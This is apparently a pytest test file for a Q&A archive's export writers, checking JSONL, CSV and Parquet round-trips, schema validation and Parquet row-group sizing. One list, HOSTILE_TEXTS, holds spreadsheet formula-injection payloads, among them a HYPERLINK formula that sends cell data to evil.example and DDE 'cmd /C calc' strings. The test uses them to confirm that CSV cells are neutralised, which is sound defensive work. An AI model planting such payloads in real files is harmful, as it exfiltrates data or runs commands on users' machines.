"""Each format round-trips: what is read back with a plain reader equals what was written."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from export_rows import SCHEMA, make_row

from storage.export import ExportSchema, RowError, SchemaError, manifest_path_for, write_export
from storage.export.writers import write_parquet


def _expected_json(row: dict[str, Any]) -> dict[str, Any]:
    """The JSON view of a fixture row: datetimes normalised to UTC, everything else as-is."""
    fetched = datetime.fromisoformat(row["fetched_at"]).astimezone(UTC).isoformat()
    return {**row, "fetched_at": fetched, "score": float(row["score"])}


def test_jsonl_round_trip_keeps_nesting_and_column_order(tmp_path: Path, rows: list) -> None:
    out = tmp_path / "qa.jsonl"
    result = write_export(iter(rows), schema=SCHEMA, fmt="jsonl", out=out)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert result.rows == len(rows) == len(lines)
    decoded = [json.loads(line) for line in lines]
    assert decoded == [_expected_json(r) for r in rows]
    assert list(decoded[0]) == list(SCHEMA.names)
    assert decoded[0]["fetched_at"] == "2024-01-01T00:30:00+00:00"
    assert "第二行" in lines[0], "non-ASCII text is kept readable, not \\u-escaped"


def test_jsonl_escapes_unicode_line_breaks(tmp_path: Path) -> None:
    schema = ExportSchema.of([("body", "string", "text")])
    text = "a\u2028b\u2029c\x85d\ne"
    out = tmp_path / "qa.jsonl"
    write_export(iter([{"body": text}, {"body": "next"}]), schema=schema, fmt="jsonl", out=out)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["body"] for line in lines] == [text, "next"]


def test_csv_round_trip_flattens_lists_as_json(tmp_path: Path, rows: list) -> None:
    out = tmp_path / "qa.csv"
    write_export(iter(rows), schema=SCHEMA, fmt="csv", out=out)
    with out.open(encoding="utf-8", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == list(SCHEMA.names)
    body = read[1:]
    assert len(body) == len(rows)
    first = dict(zip(read[0], body[0], strict=True))
    assert first["answers"].startswith("[{")
    assert json.loads(first["answers"]) == rows[0]["answers"]
    assert json.loads(first["headings"]) == ["Causes", "治療 0"]
    assert first["complete"] == "true"
    assert first["age_min"] == "30"
    assert first["score"] == "0.0"
    sparse = dict(zip(read[0], body[2], strict=True))
    assert sparse["asker_name"] == "" and sparse["asked_on"] == ""
    assert sparse["headings"] == "[]", "an empty list stays distinguishable from a null"
    assert "\\n第二行" in first["answers"], "newlines inside JSON cells are escaped"


def test_csv_multiline_text_survives_in_quoted_cells(tmp_path: Path) -> None:
    schema = ExportSchema.of([("question_body", "string", "text")])
    text = 'first line, with comma\nsecond "quoted" line'
    out = tmp_path / "qa.csv"
    write_export(iter([{"question_body": text}]), schema=schema, fmt="csv", out=out)
    with out.open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle)) == [["question_body"], [text]]


def test_parquet_round_trip_has_real_types(tmp_path: Path, rows: list) -> None:
    out = tmp_path / "qa.parquet"
    write_export(iter(rows), schema=SCHEMA, fmt="parquet", out=out)
    table = pq.read_table(out)
    assert table.schema.field("asked_on").type == pa.date32()
    assert table.schema.field("fetched_at").type == pa.timestamp("us", tz="UTC")
    assert table.schema.field("age_min").type == pa.int64()
    assert table.schema.field("complete").type == pa.bool_()
    assert table.schema.field("headings").type == pa.list_(pa.string())
    answers_type = table.schema.field("answers").type
    assert pa.types.is_list(answers_type) and pa.types.is_struct(answers_type.value_type)
    assert answers_type.value_type.field("replied_on").type == pa.date32()
    assert table.schema.field("asked_on").metadata == {
        b"description": b"Date the question was posted."
    }

    got = table.to_pylist()
    assert len(got) == len(rows)
    assert got[0]["asked_on"] == date(2023, 1, 1)
    assert got[0]["fetched_at"] == datetime(2024, 1, 1, 0, 30, tzinfo=UTC)
    assert got[0]["answers"][0]["replied_on"] == date(2023, 12, 24)
    assert got[0]["answers"][0]["body"] == rows[0]["answers"][0]["body"]
    assert got[2]["asked_on"] is None and got[2]["answers"] == []
    assert [g["external_id"] for g in got] == [r["external_id"] for r in rows]


def test_parquet_flushes_bounded_row_groups(tmp_path: Path, rows: list) -> None:
    out = tmp_path / "qa.parquet"
    with out.open("wb") as sink:
        assert write_parquet(iter(rows), SCHEMA, sink, row_group_rows=10) == 25
    meta = pq.ParquetFile(out).metadata
    assert [meta.row_group(i).num_rows for i in range(meta.num_row_groups)] == [10, 10, 5]


def test_parquet_flushes_early_when_text_is_large(tmp_path: Path) -> None:
    """Long rows must not fill a whole row-count group: memory is bounded by text size too."""
    schema = ExportSchema.of(
        [("body", "string", "text"), ("answers", "list<struct<body:string>>", "replies")]
    )
    rows = [{"body": "x" * 200, "answers": [{"body": "y" * 100}]} for _ in range(10)]
    out = tmp_path / "qa.parquet"
    with out.open("wb") as sink:
        write_parquet(iter(rows), schema, sink, row_group_rows=100, row_group_chars=1000)
    meta = pq.ParquetFile(out).metadata
    # 300 characters a row (nested text counts): a group closes once it reaches 1000.
    assert [meta.row_group(i).num_rows for i in range(meta.num_row_groups)] == [4, 4, 2]
    assert pq.read_table(out).to_pylist() == rows


def test_parquet_statistics_only_for_columns_readers_filter_on(tmp_path: Path, rows: list) -> None:
    """Text and nested columns get no min/max statistics (each would be up to 4 KB per row
    group, held in memory until the file closes); ids, numbers, dates and times keep them."""
    out = tmp_path / "qa.parquet"
    with out.open("wb") as sink:
        write_parquet(iter(rows), SCHEMA, sink, row_group_rows=10)
    group = pq.ParquetFile(out).metadata.row_group(0)
    with_stats = {
        group.column(i).path_in_schema
        for i in range(group.num_columns)
        if group.column(i).is_stats_set
    }
    assert with_stats == {"asked_on", "fetched_at", "age_min", "score", "complete", "crawl_run_id"}
    assert pq.read_table(out).num_rows == len(rows)


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_empty_export_is_a_valid_file(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"empty.{fmt}"
    result = write_export(iter([]), schema=SCHEMA, fmt=fmt, out=out)
    assert result.rows == 0
    if fmt == "parquet":
        table = pq.read_table(out)
        assert table.num_rows == 0 and table.schema.names == list(SCHEMA.names)
    elif fmt == "csv":
        assert out.read_text(encoding="utf-8") == ",".join(SCHEMA.names) + "\n"
    else:
        assert out.read_bytes() == b""


def test_unknown_format_is_named(tmp_path: Path, rows: list) -> None:
    with pytest.raises(ValueError, match=r"'xlsx'.*jsonl, csv, parquet"):
        write_export(iter(rows), schema=SCHEMA, fmt="xlsx", out=tmp_path / "qa.xlsx")


def test_extra_column_is_refused_so_a_dropped_column_cannot_leak(tmp_path: Path) -> None:
    schema = ExportSchema.of([("external_id", "string", "id")])
    row = {"external_id": "1", "asker_name": "Chen"}
    with pytest.raises(RowError, match=r"row 0: .*extra \['asker_name'\]"):
        write_export(iter([row]), schema=schema, fmt="jsonl", out=tmp_path / "qa.jsonl")


@pytest.mark.parametrize(
    ("type_text", "value", "message"),
    [
        ("int", "30", "expected an int"),
        ("int", True, "expected an int"),
        ("date", "23/12/2023", "expected a date"),
        ("date", datetime(2023, 12, 23), "got a datetime"),
        ("float", float("nan"), "finite"),
        ("list<string>", "a,b", "expected a list"),
        ("list<string>", ["a", 1], "expected a string"),
        ("struct<body:string>", {"body": "x", "extra": 1}, "unexpected struct keys"),
        ("datetime", "yesterday", "ISO datetime"),
    ],
)
def test_bad_values_name_row_and_column(
    tmp_path: Path, type_text: str, value: object, message: str
) -> None:
    schema = ExportSchema.of([("v", type_text, "value")])
    good = {"v": None}
    with pytest.raises(RowError, match=rf"row 1, column 'v': .*{message}"):
        write_export(iter([good, {"v": value}]), schema=schema, fmt="jsonl", out=tmp_path / "x")


@pytest.mark.parametrize(
    ("type_text", "message"),
    [
        ("text", "unknown type 'text'"),
        ("list<string", "missing '>'"),
        ("struct<1x:int>", "bad struct field"),
        ("struct<a:int,a:int>", "duplicate struct field"),
        ("list<string>>", "unexpected '>'"),
    ],
)
def test_bad_type_strings_are_rejected(type_text: str, message: str) -> None:
    with pytest.raises(SchemaError, match=message):
        ExportSchema.of([("v", type_text, "value")])


def test_type_strings_round_trip_through_the_manifest_form() -> None:
    text = "list<struct<doctor_name:string,replied_on:date,tags:list<string>>>"
    schema = ExportSchema.of([("answers", text, "replies"), ("n", "int", "count")])
    assert [c["type"] for c in schema.describe()] == [text, "int"]


def test_duplicate_columns_are_rejected() -> None:
    with pytest.raises(SchemaError, match=r"duplicate column names: \['a'\]"):
        ExportSchema.of([("a", "int", "x"), ("a", "string", "y")])


HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_csv_neutralises_formula_cells_and_jsonl_parquet_keep_the_text(
    tmp_path: Path, text: str
) -> None:
    schema = ExportSchema.of([("question_title", "string", "title"), ("age", "int", "n")])
    rows = [{"question_title": text, "age": -5}]
    csv_out, jsonl_out, parquet_out = (tmp_path / f"q.{f}" for f in ("csv", "jsonl", "parquet"))
    for fmt, out in (("csv", csv_out), ("jsonl", jsonl_out), ("parquet", parquet_out)):
        write_export(iter(rows), schema=schema, fmt=fmt, out=out)
    with csv_out.open(encoding="utf-8", newline="") as handle:
        cell, number = list(csv.reader(handle))[1]
    assert cell == "'" + text, "a spreadsheet shows the text instead of running it"
    assert cell[1:] == text, "dropping the one leading quote gives the archived text back"
    assert number == "-5", "numbers are ours, not formulas: left alone"
    assert json.loads(jsonl_out.read_text(encoding="utf-8"))["question_title"] == text
    assert pq.read_table(parquet_out).column("question_title").to_pylist() == [text]


def test_csv_bare_carriage_return_stays_inside_its_cell(tmp_path: Path) -> None:
    schema = ExportSchema.of([("body", "string", "text"), ("n", "int", "n")])
    rows = [{"body": "line one\rline two", "n": 1}, {"body": "next", "n": 2}]
    out = tmp_path / "q.csv"
    write_export(iter(rows), schema=schema, fmt="csv", out=out)
    with out.open(encoding="utf-8", newline="") as handle:
        read = list(csv.reader(handle))
    assert read == [["body", "n"], ["line one\rline two", "1"], ["next", "2"]]


def test_csv_guard_leaves_ordinary_text_and_json_cells_alone(tmp_path: Path) -> None:
    schema = ExportSchema.of([("body", "string", "text"), ("tags", "list<string>", "tags")])
    rows = [{"body": "Hello doctor, = is fine inside", "tags": ["=x", "-y"]}]
    out = tmp_path / "q.csv"
    write_export(iter(rows), schema=schema, fmt="csv", out=out)
    with out.open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle))[1] == ["Hello doctor, = is fine inside", '["=x","-y"]']
    manifest = json.loads(manifest_path_for(out).read_text(encoding="utf-8"))
    assert "formula" in manifest["format_notes"]["formula_guard"]


def test_only_csv_manifests_carry_format_notes(tmp_path: Path, rows: list) -> None:
    out = tmp_path / "q.jsonl"
    write_export(iter(rows), schema=SCHEMA, fmt="jsonl", out=out)
    assert json.loads(manifest_path_for(out).read_text(encoding="utf-8"))["format_notes"] is None


def _canonical(row: dict[str, Any]) -> dict[str, Any]:
    """``row`` as the archive's own query gives it: ``date``/aware-UTC ``datetime`` objects,
    floats as floats, so the writers take the chunk-at-a-time path without per-value checks."""
    return dict(zip(SCHEMA.names, SCHEMA.check_row(row, 0), strict=True))


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_canonical_and_loose_rows_give_identical_bytes(tmp_path: Path, fmt: str) -> None:
    """The whole-chunk check and the per-row check must agree on every value, so which one
    ran never shows in the file (ISO strings, tuples, +08:00 times are canonicalised)."""
    loose = [make_row(i) for i in range(2500)]
    loose[10]["headings"] = tuple(loose[10]["headings"])
    canonical = [_canonical(row) for row in loose]
    assert {type(r["asked_on"]) for r in canonical} == {date, type(None)}
    out_loose, out_canonical = tmp_path / f"loose.{fmt}", tmp_path / f"canonical.{fmt}"
    write_export(iter(loose), schema=SCHEMA, fmt=fmt, out=out_loose)
    write_export(iter(canonical), schema=SCHEMA, fmt=fmt, out=out_canonical)
    assert out_loose.read_bytes() == out_canonical.read_bytes()


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
@pytest.mark.parametrize(
    ("column", "bad"),
    [
        ("age_min", True),
        ("score", float("inf")),
        ("asked_on", datetime(2023, 1, 1, tzinfo=UTC)),
        ("answers", [{"doctor_name": "x", "body": "y", "replied_on": None, "extra": 1}]),
        ("headings", ["a", 2]),
    ],
)
def test_a_bad_value_deep_in_a_canonical_export_names_its_row(
    tmp_path: Path, fmt: str, column: str, bad: object
) -> None:
    rows = [_canonical(make_row(i)) for i in range(2500)]
    rows[1717][column] = bad
    with pytest.raises(RowError, match=rf"row 1717, column '{column}'"):
        write_export(iter(rows), schema=SCHEMA, fmt=fmt, out=tmp_path / f"x.{fmt}")
    assert not list(tmp_path.iterdir()), "nothing is left behind"


def test_row_groups_close_at_the_same_row_whatever_the_chunks(tmp_path: Path) -> None:
    """Group bounds are per row (rows or characters), not per converted chunk."""
    schema = ExportSchema.of([("body", "string", "text"), ("tags", "list<string>", "tags")])
    rows = [{"body": "x" * (i % 7), "tags": ["ab"] * (i % 3)} for i in range(2600)]
    out = tmp_path / "q.parquet"
    with out.open("wb") as sink:
        write_parquet(iter(rows), schema, sink, row_group_rows=900, row_group_chars=1500)
    meta = pq.ParquetFile(out).metadata
    sizes = [meta.row_group(i).num_rows for i in range(meta.num_row_groups)]
    expected, rows_in, chars_in = [], 0, 0
    for row in rows:  # the rule, one row at a time
        rows_in += 1
        chars_in += len(row["body"]) + 2 * len(row["tags"])
        if rows_in >= 900 or chars_in >= 1500:
            expected.append(rows_in)
            rows_in = chars_in = 0
    assert sizes == expected + ([rows_in] if rows_in else [])
    assert pq.read_table(out).to_pylist() == rows
